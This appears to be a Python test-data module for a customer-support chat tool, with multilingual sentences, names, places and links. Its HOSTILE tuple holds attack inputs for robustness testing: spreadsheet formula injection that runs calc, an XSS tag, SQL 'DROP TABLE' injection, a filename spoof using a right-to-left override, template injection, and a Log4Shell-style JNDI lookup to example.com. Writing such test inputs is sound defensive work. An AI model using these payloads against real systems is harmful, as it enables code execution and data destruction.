"""What people write to each other, in four languages, and a little of what attackers write."""

from __future__ import annotations

LANGUAGES = ("en", "fr", "es", "de")

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\u202etxt.exe\u202c مرحبا بالعالم",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"; DROP TABLE contacts; --',
    "-2+3+cmd|' /C calc'!A0",
    'first line\r\nsecond line, with "quotes"; and\ttabs',
    "{{7*7}} ${jndi:ldap://example.com/a}",
)

# Role of a message -> language -> sentences.
SENTENCES: dict[str, dict[str, tuple[str, ...]]] = {
    "opening": {
        "en": (
            "Hello, where is my order?",
            "Hi! The parcel arrived damaged 😟",
            "Do you have this jacket in size M?",
            "My discount code is refused, can you help?",
            "I would like to return two items.",
            "The payment page shows an error.",
        ),
        "fr": (
            "Bonjour, où en est ma commande ?",
            "Le colis est arrivé abîmé 😟",
            "Cette veste existe-t-elle en taille M ?",
            "Mon code promo est refusé, pouvez-vous m’aider ?",
            "Je souhaite renvoyer deux articles.",
            "La page de paiement affiche une erreur.",
        ),
        "es": (
            "Hola, ¿dónde está mi pedido?",
            "El paquete llegó dañado 😟",
            "¿Tienen esta chaqueta en la talla M?",
            "No me acepta el código de descuento, ¿me ayudan?",
            "Quisiera devolver dos artículos.",
            "La página de pago muestra un error.",
        ),
        "de": (
            "Guten Tag, wo bleibt meine Bestellung?",
            "Das Paket kam beschädigt an 😟",
            "Gibt es diese Jacke in Größe M?",
            "Mein Gutschein wird abgelehnt, können Sie helfen?",
            "Ich möchte zwei Artikel zurückschicken.",
            "Auf der Bezahlseite erscheint ein Fehler.",
        ),
    },
    "answer": {
        "en": (
            "Thank you for waiting, I am looking into it.",
            "Could you give me the order number, please?",
            "I see it: it left our warehouse yesterday.",
            "I have just sent you the return label 📦",
            "The refund takes three to five days.",
        ),
        "fr": (
            "Merci de votre patience, je regarde tout de suite.",
            "Pouvez-vous me donner le numéro de commande ?",
            "Je la vois : elle a quitté l’entrepôt hier.",
            "Je viens de vous envoyer l’étiquette de retour 📦",
            "Le remboursement prend trois à cinq jours.",
        ),
        "es": (
            "Gracias por esperar, lo estoy mirando.",
            "¿Me puede dar el número de pedido?",
            "Ya lo veo: salió ayer del almacén.",
            "Acabo de enviarle la etiqueta de devolución 📦",
            "El reembolso tarda de tres a cinco días.",
        ),
        "de": (
            "Danke für Ihre Geduld, ich sehe nach.",
            "Nennen Sie mir bitte die Bestellnummer?",
            "Ich sehe sie: Sie hat gestern das Lager verlassen.",
            "Ich habe Ihnen gerade das Rücksendeetikett geschickt 📦",
            "Die Erstattung dauert drei bis fünf Tage.",
        ),
    },
    "question": {
        "en": (
            "Yes, it is 4471-02.",
            "How long will it take?",
            "I see.",
            "And the shipping costs?",
        ),
        "fr": ("Oui, c’est le 4471-02.", "Dans combien de temps ?", "D’accord.", "Et les frais ?"),
        "es": ("Sí, es el 4471-02.", "¿Cuánto tardará?", "Entiendo.", "¿Y los gastos de envío?"),
        "de": (
            "Ja, es ist die 4471-02.",
            "Wie lange dauert das?",
            "Aha.",
            "Und die Versandkosten?",
        ),
    },
    "closing": {
        "en": ("You are welcome, have a nice day!", "Is there anything else I can do for you?"),
        "fr": ("Avec plaisir, bonne journée !", "Puis-je faire autre chose pour vous ?"),
        "es": ("Un placer, ¡que tenga buen día!", "¿Puedo ayudarle en algo más?"),
        "de": ("Gern geschehen, einen schönen Tag!", "Kann ich noch etwas für Sie tun?"),
    },
    "bot": {
        "en": ("Hello, I am the assistant. What is it about?", "Here is what I found."),
        "fr": ("Bonjour, je suis l’assistant. De quoi s’agit-il ?", "Voici ce que j’ai trouvé."),
        "es": ("Hola, soy el asistente. ¿De qué se trata?", "Esto es lo que he encontrado."),
        "de": ("Hallo, ich bin der Assistent. Worum geht es?", "Das habe ich gefunden."),
    },
    "notice": {
        "en": ("The conversation was closed.",),
        "fr": ("La conversation a été fermée.",),
        "es": ("La conversación se ha cerrado.",),
        "de": ("Die Unterhaltung wurde beendet.",),
    },
    "comment": {
        "en": ("Quick and friendly 👍", "I waited too long.", "", "Problem solved, thanks!"),
        "fr": ("Rapide et aimable 👍", "Trop d’attente.", "", "Problème réglé, merci !"),
        "es": ("Rápido y amable 👍", "Esperé demasiado.", "", "Resuelto, ¡gracias!"),
        "de": ("Schnell und freundlich 👍", "Zu lange gewartet.", "", "Gelöst, vielen Dank!"),
    },
}

LINKS = ("https://www.example.com/help/returns", "https://www.example.com/track/447102")

GIVEN: dict[str, tuple[str, ...]] = {
    "en": ("Alice", "Zoë", "Conor", "Niamh", "George", "Renée", "Oliver", "Chloe"),
    "fr": ("Amélie", "Loïc", "Élodie", "François", "Hélène", "Jérôme", "Maëlle", "Noé"),
    "es": ("Begoña", "Íñigo", "Lucía", "José", "María", "Raúl", "Sofía", "Ángel"),
    "de": ("Jörg", "Käthe", "Lüder", "Maja", "Sören", "Uwe", "Änne", "Günther"),
}
FAMILY: dict[str, tuple[str, ...]] = {
    "en": ("Taylor", "O’Brien", "Smith-Jones", "Brontë", "Hughes", "Ward", "Khan", "Reid"),
    "fr": ("Bérard", "Le Goff", "Garçon", "Dupré", "Marchand", "Noël", "Hervé", "Château"),
    "es": ("Núñez", "García López", "Muñoz", "Ibáñez", "Peña", "Ruiz", "Gómez", "Sáez"),
    "de": ("Müller", "Weiß", "Schäfer", "König", "Groß", "Böhm", "Krüger", "Vogel"),
}
# Language -> (country, telephone prefix, cities).
PLACES: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "en": ("GB", "+44 7700 900", ("Leeds", "Bath", "Stoke-on-Trent", "Derry")),
    "fr": ("FR", "+33 1 99 00 0", ("Nîmes", "Besançon", "Saint-Étienne", "Lille")),
    "es": ("ES", "+34 555 000 ", ("Málaga", "Logroño", "A Coruña", "Sevilla")),
    "de": ("DE", "+49 30 23125 ", ("Köln", "Würzburg", "Berlin", "Lübeck")),
}


def sentence(role: str, language: str, number: int) -> str:
    """Return one of the sentences of a role; a language without any speaks English."""
    spoken = SENTENCES[role]
    choices = spoken.get(language, spoken["en"])
    return choices[number % len(choices)]
